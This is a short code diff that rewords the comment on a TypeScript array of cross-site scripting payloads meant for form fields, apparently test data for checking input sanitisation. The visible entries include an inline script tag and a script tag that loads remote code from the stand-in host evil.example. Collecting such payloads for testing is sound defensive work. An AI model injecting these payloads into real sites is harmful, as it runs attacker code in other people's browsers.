@@ -1,4 +1,4 @@
-/** What an attacker types into a field so that somebody's browser runs it: mark-up, attributes, addresses, templates. */
+/** Script injections for form fields: markup, attributes, URLs, templates. */
 export const scriptPayloads: readonly string[] = [
   "<script>ran()</script>",
   "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
